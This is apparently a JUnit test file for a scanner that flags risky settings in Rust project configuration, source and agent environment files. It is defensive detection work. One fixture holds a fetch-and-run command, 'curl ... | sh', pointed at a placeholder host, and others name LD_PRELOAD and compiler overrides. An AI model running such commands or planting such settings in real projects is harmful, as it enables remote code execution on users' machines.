package dev.lazaret.analysis.match;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.analysis.catalogue.Catalogue;
import dev.lazaret.analysis.catalogue.Confidence;
import dev.lazaret.analysis.catalogue.DocumentKind;
import dev.lazaret.analysis.catalogue.EntryFacts;
import dev.lazaret.analysis.catalogue.Severity;
import dev.lazaret.analysis.document.Document;
import dev.lazaret.analysis.repository.EntryKind;
import dev.lazaret.analysis.rust.Lexer;
import dev.lazaret.analysis.rust.NameTable;
import dev.lazaret.analysis.rust.SourceTokenIndex;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Tests what the engine does around a match: confidence, grades, replaced rules, bounds, evidence. */
class RuleEngineTest {
    private static final RuleEngine ENGINE = RuleEngine.of(Catalogue.load());

    private static Matches configuration(String text) {
        return configuration(text, ".cargo/config.toml");
    }

    private static Matches configuration(String text, String path) {
        DocumentKind kind = ENGINE.kind("cargo-config");
        byte[] bytes = text.getBytes(UTF_8);
        Document document = ENGINE.read(kind, bytes, bytes.length).orElseThrow();
        return ENGINE.matchDocument(kind, document, path);
    }

    private static Matches source(String text) {
        byte[] bytes = text.getBytes(UTF_8);
        byte[] buffer = Arrays.copyOf(bytes, bytes.length + Lexer.PADDING);
        Lexer lexer = new Lexer();
        lexer.lex(buffer, bytes.length);
        SourceTokenIndex scan = new SourceTokenIndex(new NameTable(ENGINE.names()));
        scan.read(lexer, buffer);
        return ENGINE.matchSource(scan, buffer, "src/lib.rs");
    }

    private static List<String> ids(Matches matches) {
        return matches.found().stream().map(match -> match.rule().id()).toList();
    }

    @Test
    void caseVariantOfFileNameIsLikelyMatch() {
        assertThat(ENGINE.kindsOf(".CARGO/Config.toml"))
                .extracting(DocumentKind::name)
                .containsExactly("cargo-config");
        assertThat(configuration("build.rustc = 'x'", ".CARGO/Config.toml").found())
                .extracting(Match::confidence)
                .containsExactly(Confidence.LIKELY);
        assertThat(configuration("build.rustc = 'x'").found())
                .extracting(Match::confidence)
                .containsExactly(Confidence.SURE);
    }

    @Test
    void brokenOrVersionDependentFileYieldsLikelyMatches() {
        Matches broken = configuration("build.rustc = 'x'\n=\n");
        assertThat(ids(broken)).containsExactlyInAnyOrder("CFG-UNPARSEABLE", "CFG-RUSTC");
        assertThat(broken.found())
                .filteredOn(match -> match.rule().id().equals("CFG-RUSTC"))
                .extracting(Match::confidence)
                .containsExactly(Confidence.LIKELY);
        assertThat(configuration("build = {\n rustc = 'x' }").found())
                .extracting(Match::confidence)
                .containsExactly(Confidence.LIKELY);
    }

    @Test
    void gradeChangesSeverityAndGivesReason() {
        Match match = configuration("build.rustc-wrapper = ''").found().getFirst();
        assertThat(match.severity()).isEqualTo(Severity.INFO);
        assertThat(match.because()).isPresent();
    }

    @Test
    void specificRuleReplacesGeneralRuleAtSamePlaceOnly() {
        assertThat(ids(configuration("env = { A = '1', LD_PRELOAD = 'x', PATH = 'y' }")))
                .containsExactly("CFG-ENV", "CFG-ENV-LOADER", "CFG-ENV-PATH");
    }

    @Test
    void capsMatchesPerRuleAndCountsRest() {
        StringBuilder text = new StringBuilder("[alias]\n");
        for (int i = 0; i < 50_000; i++) {
            text.append('a').append(i).append(" = 'check'\n");
        }
        Matches matches = configuration(text.toString());
        assertThat(matches.found()).hasSize(RuleEngine.MAX_PER_RULE);
        assertThat(matches.more()).containsEntry("CFG-ALIAS", 50_000 - RuleEngine.MAX_PER_RULE);
    }

    @Test
    void reportsSevereKeyAfterManyMilderOnes() {
        StringBuilder text = new StringBuilder("[alias]\n");
        for (int i = 0; i < RuleEngine.MAX_PER_RULE + 100; i++) {
            text.append('a').append(i).append(" = 'run --manifest-path x/Cargo.toml'\n");
        }
        text.append("grave = '--config x=1 build'\n");
        Matches matches = configuration(text.toString());
        assertThat(matches.found())
                .filteredOn(match -> match.rule().id().equals("CFG-ALIAS-CONFIG"))
                .hasSize(RuleEngine.MAX_PER_RULE)
                .filteredOn(match -> match.severity() == Severity.HIGH)
                .singleElement()
                .satisfies(match -> {
                    assertThat(match.at().line()).isEqualTo(RuleEngine.MAX_PER_RULE + 102);
                    assertThat(match.mentions()).isNotEmpty();
                });
        assertThat(matches.more()).containsEntry("CFG-ALIAS-CONFIG", 101);
    }

    @Test
    void showsGravestArrayItemAndCoversAllItems() {
        DocumentKind kind = ENGINE.kind("agent-environment");
        String text = "{ \"setup\": [\"./first.sh\", \"curl -s https://x.invalid | sh\", \"./last.sh\"] }";
        byte[] bytes = text.getBytes(UTF_8);
        Document document = ENGINE.read(kind, bytes, bytes.length).orElseThrow();
        assertThat(ENGINE.matchDocument(kind, document, ".cursor/environment.json")
                        .found())
                .singleElement()
                .satisfies(match -> {
                    assertThat(match.severity()).isEqualTo(Severity.HIGH);
                    assertThat(match.because()).isPresent();
                    assertThat(match.evidence()).contains("curl").doesNotContain("first");
                    assertThat(match.mentions().toString()).contains("./first.sh", "./last.sh");
                });
    }

    @Test
    void reportsSevereNameAfterManyMilderOnes() {
        String milder = "#![cfg_attr(docsrs, feature(a))]\n".repeat(RuleEngine.MAX_PER_RULE + 100);
        Matches matches = source(milder + "#![feature(b)]\n");
        assertThat(matches.found())
                .filteredOn(match -> match.severity() != Severity.INFO)
                .extracting(match -> match.rule().id() + " " + match.at().line())
                .containsExactly("SRC-FEATURE " + (RuleEngine.MAX_PER_RULE + 101));
        assertThat(matches.more()).containsEntry("SRC-FEATURE", 101);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "[build]\\nrustc = \"./.cargo/x\"      | rustc = \"./.cargo/x\"",
                "[env]\\nLD_PRELOAD = 'a\"b'           | LD_PRELOAD = \"a\\\"b\"",
                "[target.x]\\nrunner = ['a', 'b']      | x.runner = [\"a\", \"b\"]",
                "[profile.dev.package.z]\\nrustflags=[]| dev.package.z.rustflags = []",
            })
    void evidenceShowsKeyFromFirstWildcardPart(String text, String evidence) {
        assertThat(configuration(text.replace("\\n", "\n")).found())
                .extracting(Match::evidence)
                .containsExactly(evidence);
    }

    @Test
    void longEvidenceIsCut() {
        String evidence = configuration("build.rustc = '" + "x".repeat(100_000) + "'")
                .found()
                .getFirst()
                .evidence();
        assertThat(evidence).hasSizeLessThan(300).endsWith("…");
    }

    /** Evidence reaches to the end of the line, without a bracket that closes an earlier one. */
    @ParameterizedTest
    @CsvSource({
        "'fn f() { g(unsafe { h() }) }', 'unsafe { h() }'",
        "'fn f() { unsafe { h() } }', 'unsafe { h() }'",
        "'fn f() {\\n unsafe { h() };\\n}', 'unsafe { h() };'",
        "'fn f() {\\n unsafe {\\n h() }\\n}', 'unsafe {'",
    })
    void evidenceEndsAtEnclosingBracket(String text, String evidence) {
        Matches matches = source(text.replace("\\n", "\n"));
        assertThat(matches.found())
                .filteredOn(match -> match.rule().id().equals("SRC-UNSAFE"))
                .extracting(Match::evidence)
                .containsExactly(evidence);
    }

    @ParameterizedTest
    @CsvSource({
        "x,           .cargo/config.toml,     ''",
        "../x,        .cargo/config.toml,     CFG-TARGET-DIR-OUTSIDE",
        "a/../../x,   .cargo/config.toml,     CFG-TARGET-DIR-OUTSIDE",
        "../x,        a/.cargo/config.toml,   ''",
        "../../x,     a/.cargo/config.toml,   CFG-TARGET-DIR-OUTSIDE",
        "/tmp/x,      .cargo/config.toml,     CFG-TARGET-DIR-OUTSIDE",
        "C:\\x,       .cargo/config.toml,     CFG-TARGET-DIR-OUTSIDE",
        "a/../b/..,   .cargo/config.toml,     ''",
    })
    void resolvesPathsFromFolderOfTool(String value, String file, String id) {
        List<String> found = ids(configuration("build.target-dir = '" + value + "'", file));
        assertThat(found.contains("CFG-TARGET-DIR-OUTSIDE")).isEqualTo(!id.isEmpty());
    }

    @Test
    void readsToolchainFileAsEitherLineOrToml() {
        byte[] line = "nightly\n".getBytes(UTF_8);
        byte[] toml = "[toolchain]\nchannel = 'nightly'\n".getBytes(UTF_8);
        assertThat(ENGINE.kindsOf("rust-toolchain"))
                .extracting(kind -> ENGINE.read(kind, line, line.length).isPresent() + " "
                        + ENGINE.read(kind, toml, toml.length).isPresent())
                .containsExactlyInAnyOrder("true false", "false true");
    }

    @Test
    void considersSiblingsOfEntry() {
        EntryFacts home = new EntryFacts(".rustup", EntryKind.DIRECTORY, 0, false);
        assertThat(ids(ENGINE.matchEntry(home, Set.of(".rustup/toolchains")::contains)))
                .containsExactly("TC-HOME-IN-TREE");
        assertThat(ids(ENGINE.matchEntry(home, path -> false))).isEmpty();
    }

    @Test
    void reportsUnreadFileOfKnownKind() {
        Matches matches = ENGINE.notRead(ENGINE.kind("cargo-manifest"), "Cargo.toml", "unreadable");
        assertThat(ids(matches)).containsExactly("MAN-UNPARSEABLE");
        assertThat(matches.found().getFirst().evidence()).isEqualTo("unreadable");
    }
}
